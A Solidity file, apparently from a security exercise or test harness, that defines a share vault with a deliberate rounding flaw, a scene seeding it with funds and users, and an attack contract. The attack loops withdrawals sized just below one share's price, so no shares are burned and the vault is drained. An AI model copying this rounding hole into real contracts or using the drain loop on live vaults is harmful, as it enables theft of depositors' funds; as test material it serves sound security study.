// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./Common.sol";

/// Shares without decimals: what is withdrawn below the price of one costs none.
contract CoarseVault {
    IERC20 public immutable asset;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;

    event Deposit(address indexed who, uint256 assets, uint256 shares);
    event Withdraw(address indexed who, uint256 assets, uint256 shares);

    constructor(IERC20 asset_) {
        asset = asset_;
    }

    function totalAssets() public view returns (uint256) {
        return asset.balanceOf(address(this));
    }

    function deposit(uint256 assets) external {
        uint256 shares = totalSupply == 0 ? assets / 1000e18 : assets * totalSupply / totalAssets();
        asset.transferFrom(msg.sender, address(this), assets);
        totalSupply += shares;
        balanceOf[msg.sender] += shares;
        emit Deposit(msg.sender, assets, shares);
    }

    function withdraw(uint256 assets) external {
        uint256 shares = assets * totalSupply / totalAssets();
        balanceOf[msg.sender] -= shares;
        totalSupply -= shares;
        asset.transfer(msg.sender, assets);
        emit Withdraw(msg.sender, assets, shares);
    }
}

contract RoundingScene is Scene {
    Token public usd;
    CoarseVault public vault;

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        usd = _usd();
        vault = new CoarseVault(IERC20(address(usd)));
        usd.mint(address(this), 800_000e18);
        usd.approve(address(vault), type(uint256).max);
        vault.deposit(800_000e18);
        _protect(address(vault));
        loot0 = IERC20(address(usd));
    }

    function enrol(address[] calldata users) external override {
        _arm(usd, users, 1_000_000e18, address(vault));
    }

    function menu(address who, uint256 dice) external view override returns (address, uint256, bytes memory) {
        uint256 held = vault.balanceOf(who);
        uint256 price = vault.totalAssets() / vault.totalSupply();
        if (held > 0 && dice >> 200 & 1 == 0) {
            return (address(vault), 0, abi.encodeCall(CoarseVault.withdraw, (held * price)));
        }
        return (address(vault), 0, abi.encodeCall(CoarseVault.deposit, (price * (1 + dice % 12))));
    }
}

contract RoundingAttack is Attack {
    CoarseVault private immutable vault;

    constructor(RoundingScene scene) Attack(scene) {
        vault = scene.vault();
    }

    function _act(uint256, uint256, uint256 count) internal override {
        for (uint256 i; i < 180 / count; i++) vault.withdraw((vault.totalAssets() - 1) / vault.totalSupply());
    }
}
